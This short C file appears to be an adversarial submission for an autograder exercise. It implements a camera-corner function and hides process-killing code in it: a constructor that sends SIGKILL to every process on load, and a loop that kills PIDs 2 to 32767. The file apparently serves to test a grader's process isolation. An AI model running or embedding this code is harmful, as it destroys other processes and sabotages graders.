// kill-everything: every process that it may send a signal to.
// stem: 01-corners
// expect: graded | crashed
// earns: nothing
// needs: a process namespace
#include "exercises/01-corners.h"
#include <signal.h>

__attribute__((constructor)) static void begin(void)
{
    kill(-1, SIGKILL);
}

vec3 upper_left(Camera c)
{
    for (pid_t other = 2; other < 32768; other++)
        kill(other, SIGKILL);
    return c.up;
}
